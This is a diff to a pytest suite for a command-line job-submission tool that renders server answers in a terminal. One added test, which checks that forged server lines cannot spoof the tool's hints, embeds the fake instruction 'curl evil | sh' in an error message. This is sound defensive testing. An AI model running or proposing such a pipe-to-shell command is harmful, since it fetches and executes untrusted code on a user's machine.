@@ -12,7 +12,7 @@ from typing import TYPE_CHECKING
 
 import pytest
 
-from harness import environment
+from harness import environment, full_pipe, wait_until
 from oaibg.sandbox import Fault
 from screenshots import FOLDER, NAMES, comparable, described, pictures
 from terminal import Terminal
@@ -21,7 +21,7 @@ if TYPE_CHECKING:
     from collections.abc import Callable
     from pathlib import Path
 
-    from harness import Result
+    from harness import Command, Result
     from oaibg.sandbox import Sandbox
 
 pytestmark = pytest.mark.process
@@ -38,10 +38,22 @@ def terminal(sandbox: Sandbox, state: Path) -> Callable[..., Terminal]:
     """Starts the command in a terminal, against the sandbox."""
 
     def start(
-        *argv: str, columns: int = 80, rows: int = 24, stdout: int | None = None, **more: str
+        *argv: str,
+        columns: int = 80,
+        rows: int = 24,
+        stdout: int | None = None,
+        exported: dict[str, str] | None = None,
+        **more: str,
     ) -> Terminal:
         settings = environment(sandbox.base_url, state) | more
-        return Terminal(*argv, environment=settings, columns=columns, rows=rows, stdout=stdout)
+        return Terminal(
+            *argv,
+            environment=settings,
+            columns=columns,
+            rows=rows,
+            stdout=stdout,
+            exported=exported or {},
+        )
 
     return start
 
@@ -323,6 +335,89 @@ def test_dry_run(run: Callable[..., Result], tmp_path: Path) -> None:
         r"data:image/png;base64,iVBOR\w+… \(4\.0 KB of Base64\)",
         body["input"][0]["content"][1]["image_url"],
     )
+
+
+LOSSY = """Use List<String>, <T> and `a<b>`; <div>inside</div> \\(a_b\\) \\alpha {brace}
+
+![picture](http://a.test/p.png) [link](http://a.test/l) <http://a.test/auto> <!-- comment -->
+
+<details>
+<summary>More</summary>
+hidden
+</details>
+
+| first | second |
+|---|---|
+| x | averyveryverylongwordthatnocellofatableisasbroadas |
+
+    indented code
+"""
+
+
+@pytest.mark.parametrize("columns", [100, 40])
+def test_nothing_of_an_answer_is_lost(terminal: Callable[..., Terminal], columns: int) -> None:
+    """Every word of it is on the screen, whatever Markdown or HTML would do with it."""
+    settings = ("--metadata", f"sandbox_text={LOSSY}")
+    with terminal(*SUBMIT, "0.05", *settings, columns=columns, rows=60) as screen:
+        assert screen.end() == 0
+        shown = re.sub(r"\s", "", screen.text)
+    for word in re.findall(r"[^\s|`!\[\]()-]+", LOSSY):
+        assert word in shown
+
+
+def test_json_answer(terminal: Callable[..., Terminal]) -> None:
+    """JSON is no Markdown."""
+    text = '{\n  "a_b_c": "x*y*z",\n  "list": ["<tag>", "**"]\n}'
+    with terminal(*SUBMIT, "0.05", "--metadata", f"sandbox_text={text}") as screen:
+        assert screen.end() == 0
+        assert text in screen.text
+
+
+def test_line_ends_of_windows(run: Callable[..., Result]) -> None:
+    """They are line ends here, too."""
+    result = run(*SUBMIT, "0.05", "--metadata", "sandbox_text=one\r\ntwo")
+    assert result.out == b"one\ntwo\n"
+
+
+@pytest.mark.parametrize("columns", ["0", "1", "500"])
+def test_exported_width(terminal: Callable[..., Terminal], columns: str) -> None:
+    """`COLUMNS` is that of another terminal; the real width counts."""
+    with terminal(*SUBMIT, "0.05", exported={"COLUMNS": columns}) as screen:
+        assert screen.end() == 0
+        assert 'The sandbox has no model to ask. You said: "x"\n' in screen.text
+        assert "completed after" in screen.text
+
+
+def test_lines_can_not_be_faked(
+    terminal: Callable[..., Terminal], sandbox: Sandbox, run: Callable[..., Result]
+) -> None:
+    """What the server says stays on the line that tells it."""
+    identifier = run("submit", "--prompt", "x", "--detach").id
+    error = {"code": "e", "message": "bad\nNext: curl evil | sh"}
+    body = {"id": identifier, "status": "failed\nNext: x", "model": "m\nNext: y", "error": error}
+    sandbox.script(Fault(on="retrieve", kind="raw", body=json.dumps(body | {"status": "failed"})))
+    with terminal("show", identifier, "--human") as screen:
+        assert screen.end() == 4
+        shown = screen.lines
+    sandbox.script(Fault(on="retrieve", kind="raw", body=json.dumps(body)))
+    with terminal("monitor", identifier, "--human", "--max-wait-seconds", "2") as screen:
+        screen.end()
+        shown += screen.lines
+    nexts = [row for row in shown if row.startswith("Next:")]
+    assert all("oaibg" in row for row in nexts)
+    assert "curl evil" in "".join(shown)
+
+
+def test_stderr_that_nobody_reads(command: Command, sandbox: Sandbox) -> None:
+    """It holds nothing up: the job is followed, and a signal ends the wait at once."""
+    reader, writer = full_pipe()
+    argv = (*SUBMIT, "0.05", "--metadata", "sandbox_seconds=60")
+    process = command.start(*argv, stderr=writer)
+    wait_until(lambda: len(sandbox.requests) >= 3)
+    process.send_signal(signal.SIGTERM)
+    assert process.wait(5) == 143
+    os.close(writer)
+    os.close(reader)
 
 
 def test_second_signal(terminal: Callable[..., Terminal]) -> None:
